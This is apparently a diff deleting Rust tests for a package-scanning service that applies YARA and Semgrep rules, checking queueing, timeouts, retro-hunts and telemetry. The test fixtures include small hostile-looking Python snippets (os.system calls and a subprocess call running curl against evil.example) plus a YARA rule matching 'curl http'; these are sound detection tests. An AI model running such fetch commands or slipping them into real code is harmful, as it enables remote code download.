-            let a = fast.submit(request(code)).wait();
-            let b = slow.submit(request(code)).wait();
-            assert_eq!(a, b, "divergence on {code:?}");
-        }
-    }
-
-    #[test]
-    fn python_entries_route_semgrep_even_when_other_files_are_clean() {
-        // Semgrep routing must come from the Python entries themselves:
-        // a payload-free data file plus a hot Python file must still
-        // route and match the Semgrep rule.
-        let hub = hub(HubConfig {
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let v = hub
-            .submit(ScanRequest::from_files(vec![
-                FileEntry::new("assets/data.bin", b"clean bytes".to_vec()),
-                FileEntry::new("mod.py", b"import os\nos.system('x')\n".to_vec()),
-            ]))
-            .wait();
-        assert_eq!(v.semgrep, vec!["sys-call".to_owned()]);
-    }
-
-    #[test]
-    fn cross_file_conditions_see_the_whole_package() {
-        // `all of them` with atoms split across two files: the per-file
-        // hit sets must union before condition evaluation.
-        let hub = ScanHub::new(
-            Some(
-                yara_engine::compile(
-                    "rule pair { strings: $a = \"marker_one\" $b = \"marker_two\" condition: all of them }",
-                )
-                .expect("yara"),
-            ),
-            None,
-            HubConfig {
-                cache_capacity: 0,
-                ..HubConfig::default()
-            },
-        );
-        let v = hub
-            .submit(ScanRequest::from_files(vec![
-                FileEntry::new("a.py", b"x = 'marker_one'\n".to_vec()),
-                FileEntry::new("b.py", b"y = 'marker_two'\n".to_vec()),
-            ]))
-            .wait();
-        assert_eq!(v.yara, vec!["pair".to_owned()]);
-        // Either file alone must not satisfy the condition.
-        let half = hub
-            .submit(ScanRequest::from_files(vec![FileEntry::new(
-                "a.py",
-                b"x = 'marker_one'\n".to_vec(),
-            )]))
-            .wait();
-        assert!(half.yara.is_empty());
-    }
-
-    #[test]
-    fn scan_ordered_keeps_order_under_concurrent_submitters() {
-        // Several client threads interleave submissions into one hub with
-        // a deliberately tiny queue; each client's batch must come back
-        // in its own submission order regardless of global interleaving.
-        let hub = hub(HubConfig {
-            queue_capacity: 1,
-            workers: 4,
-            cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        std::thread::scope(|scope| {
-            for client in 0..4 {
-                let hub = &hub;
-                scope.spawn(move || {
-                    let codes: Vec<String> = (0..25)
-                        .map(|i| {
-                            if (i + client) % 2 == 0 {
-                                format!("import os\nos.system('c{client}_{i}')\n")
-                            } else {
-                                format!("def f{client}_{i}():\n    return {i}\n")
-                            }
-                        })
-                        .collect();
-                    let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
-                    for (i, v) in verdicts.iter().enumerate() {
-                        assert_eq!(
-                            v.yara.contains(&"sys".to_owned()),
-                            (i + client) % 2 == 0,
-                            "client {client} index {i} out of order"
-                        );
-                    }
-                });
-            }
-        });
-        assert_eq!(hub.stats().completed, 100);
-    }
-
-    #[test]
-    fn wait_timeout_times_out_on_a_saturated_queue_then_resolves() {
-        // One worker, a two-slot queue, caches off: after the final
-        // submit returns, at least the last two jobs are still queued
-        // behind the in-flight scan, so a zero-duration wait on the
-        // last ticket must observe "pending".
-        let hub = hub(HubConfig {
-            workers: 1,
-            queue_capacity: 2,
-            cache_capacity: 0,
-            artifact_cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let body = "x = 'just some bytes to scan'\n".repeat(2_000);
-        let tickets: Vec<Ticket> = (0..12)
-            .map(|i| hub.submit(request(&format!("# upload {i}\n{body}"))))
-            .collect();
-        let last = tickets.last().expect("tickets");
-        assert!(
-            last.wait_timeout(Duration::ZERO).is_none(),
-            "last ticket resolved while the queue was saturated"
-        );
-        // A generous deadline resolves...
-        let v = last.wait_timeout(Duration::from_secs(60)).expect("verdict");
-        assert!(!v.flagged());
-        // ...and a fulfilled ticket answers instantly ever after.
-        assert_eq!(last.wait_timeout(Duration::ZERO), Some(v));
-        for t in &tickets {
-            let _ = t.wait();
-        }
-        assert_eq!(hub.stats().completed, 12);
-    }
-
-    #[test]
-    #[should_panic(expected = "scan worker panicked")]
-    fn wait_timeout_propagates_worker_panics() {
-        let state = Arc::new(TicketState {
-            slot: Mutex::new(None),
-            ready: Condvar::new(),
-        });
-        state.fulfill(Err("scan worker panicked: boom".to_owned()));
-        let _ = Ticket { state }.wait_timeout(Duration::ZERO);
-    }
-
-    #[test]
-    fn wait_timeout_with_an_overflowing_deadline_blocks_like_wait() {
-        // `Instant::now() + Duration::MAX` is unrepresentable; the
-        // overflowed deadline must mean "infinitely patient", not
-        // "already expired". Regression: this returned `None`
-        // immediately, so callers passing a huge timeout lost verdicts.
-        let hub = hub(HubConfig::default());
-        let ticket = hub.submit(request("import os\nos.system('id')\n"));
-        let v = ticket
-            .wait_timeout(Duration::MAX)
-            .expect("an unrepresentable deadline must block until the verdict, like wait()");
-        assert!(v.flagged());
-        // Near-overflow values that still fit behave the same.
-        let ticket = hub.submit(request("print('clean')\n"));
-        assert!(ticket
-            .wait_timeout(Duration::from_secs(u64::MAX / 4))
-            .is_some());
-    }
-
-    #[test]
-    fn retro_hunt_confirms_only_candidates_and_matches_the_rescan_oracle() {
-        let hub = hub(HubConfig::default());
-        for (i, code) in [
-            "import os\nos.system('id')\n",
-            "import socket\nsocket.socket()\n",
-            "print('benign upload')\n",
-            "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
-        ]
-        .iter()
-        .enumerate()
-        {
-            let _ = hub
-                .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
-                .wait();
-        }
-        // New bundle: same three rules plus one new atom-gated rule.
-        let new_yara = yara_engine::compile(&format!(
-            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n"
-        ))
-        .expect("yara");
-        let deployment = hub.deploy_rules(
-            Some(new_yara),
-            Some(semgrep_engine::compile(SEMGREP).expect("s")),
-        );
-        assert_eq!(
-            deployment.delta.changed.len(),
-            1,
-            "only the new rule changed"
-        );
-        assert_eq!(deployment.delta.changed[0].name, "curl_fetch");
-        assert_eq!(deployment.delta.unchanged, 4);
-        assert!(deployment.delta.new_atoms.contains(&"curl http".to_owned()));
-
-        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
-        let oracle = hub.retro_rescan(&deployment).expect("oracle");
-        assert!(report.same_hits(&oracle), "index-assisted ≡ exhaustive");
-        assert_eq!(report.rules.len(), 1);
-        assert_eq!(
-            report.rules[0].digests.len(),
-            1,
-            "exactly one upload has the atom"
-        );
-        assert_eq!(report.digests_indexed, 4);
-        assert!(
-            report.confirm_scans < report.digests_indexed,
-            "the index must prune: {} scans over {} digests",
-            report.confirm_scans,
-            report.digests_indexed
-        );
-        let stats = hub.stats();
-        assert_eq!(stats.retro_hunts, 1);
-        assert_eq!(stats.retro_confirm_scans, report.confirm_scans);
-        assert_eq!(stats.retro_candidates, report.candidates);
-        assert!(stats.retro_index_atoms > 0);
-        assert_eq!(stats.retro_index_digests, 4);
-        // The retro stages recorded latency samples.
-        assert_eq!(stats.latency.retro_query.count, 1);
-        assert_eq!(stats.latency.retro_confirm.count, report.confirm_scans);
-        // Export carries the new counters and gauges.
-        let text = hub.export_prometheus();
-        assert!(text.contains("scanhub_retro_confirm_scans_total 1"));
-        assert!(text.contains("scanhub_retro_index_digests 4"));
-        assert!(telemetry::validate_prometheus(&text).is_ok());
-    }
-
-    #[test]
-    fn retro_hunt_is_unavailable_without_cache_or_index() {
-        let no_cache = hub(HubConfig {
-            artifact_cache_capacity: 0,
-            ..HubConfig::default()
-        });
-        let deployment =
-            no_cache.deploy_rules(Some(yara_engine::compile(YARA).expect("yara")), None);
-        assert!(no_cache.retro_hunt(&deployment).is_none());
-        assert!(no_cache.retro_rescan(&deployment).is_none());
-        let no_index = hub(HubConfig {
-            retro_index: false,
-            ..HubConfig::default()
-        });
-        let _ = no_index.submit(request("print('x')\n")).wait();
-        assert!(no_index.retro_hunt(&deployment).is_none());
-        assert_eq!(no_index.retro_index_size(), (0, 0));
-    }
-
-    #[test]
-    fn disabled_telemetry_reads_no_clocks_and_records_nothing() {
-        let hub = hub(HubConfig {
-            telemetry: false,
-            ..HubConfig::default()
-        });
-        assert!(!hub.telemetry_enabled());
-        let v = hub.submit(request("import os\nos.system('id')\n")).wait();
-        assert!(v.flagged());
-        let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
-        assert!(hub.traces().is_empty());
-        assert_eq!(hub.traces_recorded(), 0);
-        let stats = hub.stats();
-        assert_eq!(stats.latency, StageLatencies::default());
-        // Counters still work; only the latency layer is off.
-        assert_eq!(stats.completed, 2);
-        assert_eq!(stats.cache_hits, 1);
-    }
-
-    #[test]
-    fn cache_hits_leave_their_own_trace() {
-        let hub = hub(HubConfig::default());
-        let req = request("import os\nos.system('id')\n");
-        let hex = req.digest_hex();
-        let _ = hub.submit(req).wait();
-        let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
-        let traces = hub.traces();
-        assert_eq!(traces.len(), 2);
-        let scan = &traces[0];
-        let hit = &traces[1];
-        assert!(!scan.from_cache);
-        assert!(scan.worker.is_some());
-        assert!(hit.from_cache);
-        assert_eq!(hit.worker, None);
-        assert!(hit.stages.cache > 0);
-        assert_eq!(hit.stages.artifact, 0);
-        // Both traces carry the digest, and both explain the verdict.
-        assert_eq!(scan.digest.as_deref(), Some(hex.as_str()));
-        assert_eq!(hit.digest, scan.digest);
-        assert_eq!(hub.trace_for_digest(&hex).expect("trace").seq, hit.seq);
-        assert!(hit.fired.iter().any(|f| f.rule == "sys"));
-    }
-
-    #[test]
-    fn exports_render_and_validate() {
-        let hub = hub(HubConfig::default());
-        let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
-        let text = hub.export_prometheus();
-        telemetry::validate_prometheus(&text).expect("valid exposition format");
-        assert!(text.contains("scanhub_submitted_total 1"));
-        assert!(text.contains("scanhub_stage_duration_ns_bucket"));
-        assert!(text.contains("stage=\"artifact\""));
-        // The matching-tier counters ride along in both exposition
-        // formats (process-global, so only presence is asserted).
-        assert!(text.contains("textmatch_teddy_scans_total"));
-        assert!(text.contains("textmatch_dfa_states_built_total"));
-        assert!(text.contains("textmatch_pikevm_fallbacks_total"));
-        let json = hub.export_json().to_string();
-        assert!(json.contains("scanhub_scan_duration_ns"));
-        assert!(json.contains("\"p99\""));
-        assert!(json.contains("textmatch_teddy_bytes_scanned_total"));
-        assert!(json.contains("textmatch_ac_fallback_scans_total"));
-    }
-
-    #[test]
-    fn matching_tier_counters_reach_hub_stats() {
-        // The default test bundle has multi-byte literal atoms, so the
-        // prefilter and scanner multi-literal matchers run the Teddy
-        // tier; the counters are process-global, so assert deltas-or-
-        // better rather than exact values.
-        let before = hub(HubConfig::default()).stats().engine;
-        let h = hub(HubConfig::default());
-        let _ = h.submit(request("import os\nos.system('id')\n")).wait();
-        let after = h.stats().engine;
-        assert!(
-            after.teddy_scans > before.teddy_scans,
-            "scanning with literal atoms must exercise the Teddy tier"
-        );
-        assert!(after.teddy_bytes_scanned >= before.teddy_bytes_scanned);
-    }
-
-    #[test]
-    #[should_panic(expected = "scan worker panicked")]
-    fn wait_propagates_worker_panics() {
-        let state = Arc::new(TicketState {
-            slot: Mutex::new(None),
-            ready: Condvar::new(),
-        });
-        state.fulfill(Err("scan worker panicked: boom".to_owned()));
-        Ticket { state }.wait();
-    }
-
-    #[test]
     fn empty_rule_bundle_always_passes() {
         let hub = ScanHub::new(None, None, HubConfig::default());
         let v = hub.submit(request("anything")).wait();
         assert_eq!(v, Verdict::default());
-    }
-
-    #[test]
-    fn drop_joins_workers_with_pending_jobs() {
-        let hub = hub(HubConfig {
-            workers: 1,
-            ..HubConfig::default()
-        });
-        let tickets: Vec<Ticket> = (0..16)
-            .map(|i| hub.submit(request(&format!("x = {i}\n"))))
-            .collect();
-        drop(hub);
-        // Workers drain the queue before exiting, so every ticket resolves.
-        for t in &tickets {
-            let _ = t.wait();
-        }
     }
 }
